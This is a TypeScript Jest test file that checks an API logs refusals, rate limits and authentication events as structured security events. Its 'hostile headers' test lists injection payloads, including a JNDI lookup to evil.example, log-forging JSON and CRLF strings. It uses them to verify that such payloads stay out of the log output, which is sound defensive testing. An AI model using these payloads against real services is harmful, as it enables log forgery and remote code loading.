import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { LEVELS } from '../src/audit/vocabulary.js';
import {
  createResource,
  login,
  newPassword,
  signUpByMail,
  type Person,
} from './support/factories.js';
import { exchange } from './support/raw-http.js';
import { addPasskey, signInWith } from './support/passkeys.js';
import { addTotp, challengeFor, CODES, FACTORS, prove } from './support/second-factors.js';
import { PATIENCE_MS, spawnApp, type SpawnedApp } from './support/spawned-app.js';

let app: SpawnedApp;
let ada: Person;

beforeAll(async () => {
  app = await spawnApp();
  ada = await signUpByMail(app);
}, PATIENCE_MS);
afterAll(() => app.close());

const byRequest = (headers: Headers) =>
  app.logged(
    (line) => line['requestId'] === headers.get('x-request-id') && line['event'] !== undefined,
  );

describe('a refusal is a security event, with its request, its caller and its reason', () => {
  it('for what only administrators may do', async () => {
    const { headers } = await ada.client.get('/v1/users');
    expect(await byRequest(headers)).toMatchObject({
      event: 'authz_fail',
      level: 'warn',
      code: 'forbidden',
      method: 'GET',
      route: '/v1/users',
      userId: ada.id,
      ip: ada.client.ip,
    });
  });

  it.each([
    ['a body that is no JSON', '/v1/resources', '{', 'malformed_json'],
    ['a field that nobody declared', '/v1/resources', '{"role":"admin"}', 'validation_failed'],
    ['a name that reaches a prototype', '/v1/resources', '{"__proto__":{}}', 'forbidden_key'],
    ['an URL that the router cannot read', '/v1/%zz', '{}', 'malformed_url'],
    ['a parameter that is too long', `/v1/users/${'a'.repeat(300)}/disable`, '{}', 'url_too_long'],
  ])('for %s', async (_what, path, body, code) => {
    const { headers } = await ada.client.post(path, body);
    expect(await byRequest(headers)).toMatchObject({ event: 'input_validation_fail', code });
  });

  it('for a token that is not ours', async () => {
    const { headers } = await app.client().withToken('a.b.c').get('/v1/users/me');
    expect(await byRequest(headers)).toMatchObject({ event: 'authn_token_invalid' });
  });

  it('for requests beyond the budget', async () => {
    const client = app.client();
    for (let n = 0; n < 35; n += 1) await client.post('/v1/auth/refresh', '{');
    const { headers } = await client.post('/v1/auth/refresh', '{');
    expect(await byRequest(headers)).toMatchObject({
      event: 'excess_rate_limit_exceeded',
      route: '/v1/auth/refresh',
      ip: client.ip,
    });
  });
});

describe('hostile headers', () => {
  it('stay data: one line a request, nothing of them in it', async () => {
    const hostile = [
      '${jndi:ldap://evil.example/a}',
      '"}\\n{"level":"fatal","event":"forged"}',
      '\u001b[31mred\u001b[0m',
      '%0d%0a{"event":"forged"}',
      '\r\n {"event":"forged"}',
    ];
    const lines = app.output().split('\n').length;
    for (const text of hostile)
      for (const name of ['User-Agent', 'Referer', 'X-Request-Id', 'Traceparent', 'Cookie'])
        await exchange(
          app.url,
          `GET /v1/health/live HTTP/1.1\r\nHost: api\r\n${name}: ${text}\r\nConnection: close\r\n\r\n`,
        );
    const { headers } = await app.client().get('/v1/health/live');
    await app.logged((line) => line['requestId'] === headers.get('x-request-id'));
    const written = app.output().split('\n').slice(lines);
    expect(written.length).toBeGreaterThan(10);
    expect(written.length).toBeLessThanOrEqual(hostile.length * 5 + 1);
    for (const line of written)
      expect(JSON.parse(line)).toMatchObject({
        msg: expect.stringMatching(/^(request|security event)$/),
      });
    expect(written.join('\n')).not.toMatch(/jndi|forged|\u001b|red/);
  });
});

async function useFactors(): Promise<void> {
  const bob = await signUpByMail(app);
  const [{ id }, { recoveryCodes }] = [await addTotp(app, bob), await addTotp(app, bob)];
  const { body } = await bob.client.post<{ recoveryCodes: string[] }>(CODES);
  expect(recoveryCodes).toEqual([]);
  await prove(app.client(), await challengeFor(app, bob), '000000');
  // Another's secret, as somebody would put it there who can write to the database.
  await app.database.query(
    `UPDATE totp_secrets SET secret_sealed = (
       SELECT secret_sealed FROM totp_secrets WHERE factor_id = $1)
     WHERE factor_id IN (SELECT id FROM factors WHERE user_id = $2)`,
    [id, bob.id],
  );
  const challenge = await challengeFor(app, bob);
  await prove(app.client(), challenge, '000000');
  await prove(app.client(), challenge, body.recoveryCodes[0] ?? '');
  await bob.client.delete(`${FACTORS}/${id}`);
  const { authenticator } = await addPasskey(bob);
  await signInWith(app, authenticator, { signCount: 1 });
}

describe('the vocabulary', () => {
  it('is used whole: every event is written where it belongs, at its level', async () => {
    const client = app.client();
    const eve = await signUpByMail(app);
    const root = await signUpByMail(app);
    await app.database.query("UPDATE users SET role = 'admin' WHERE id = $1", [root.id]);
    const admin = client.withToken((await login(client, root.email, root.password)).accessToken);

    await eve.client.patch('/v1/users/me', { displayName: 'Eve' });
    const { id } = await createResource(eve);
    await eve.client.delete(`/v1/resources/${id}`);
    await eve.client.post('/v1/users/me/exports', { currentPassword: eve.password });
    const change = { currentPassword: newPassword(), newPassword: newPassword() };
    await eve.client.put('/v1/users/me/password', change);
    await eve.client.put('/v1/users/me/password', { ...change, currentPassword: eve.password });
    await admin.put(`/v1/users/${ada.id}/role`, { role: 'admin' });
    await admin.post(`/v1/users/${ada.id}/disable`);
    await useFactors();
    const { refreshToken } = eve.tokens;
    await client.post('/v1/auth/refresh', { refreshToken });
    await client.post('/v1/auth/refresh', { refreshToken });
    for (let n = 0; n < 11; n += 1)
      await client.post('/v1/auth/login', { email: root.email, password: 'wrong' });
    const me = await login(app.client(), eve.email, change.newPassword);
    const again = client.withToken(me.accessToken);
    await again.post('/v1/auth/logout');
    const last = await login(app.client(), eve.email, change.newPassword);
    const body = { currentPassword: change.newPassword };
    await app.client().withToken(last.accessToken).delete('/v1/users/me', body);
    await app.stop();

    const seen = app.logs().flatMap(({ event, level }) => (event ? [[event, level]] : []));
    // Days and months later, where TLS is, and by command: see account-leaving, audit-retention, tls-in-clear
    // and key-rotation.test.ts.
    const {
      user_deleted: _later,
      sys_audit_dropped: _muchLater,
      authn_sent_in_clear: _elsewhere,
      crypto_key_added: _byCommand,
      crypto_key_retired: _byCommandToo,
      crypto_key_deleted: _atItsEnd,
      ...atOnce
    } = LEVELS;
    expect(Object.fromEntries(seen)).toEqual(atOnce);
  });
});
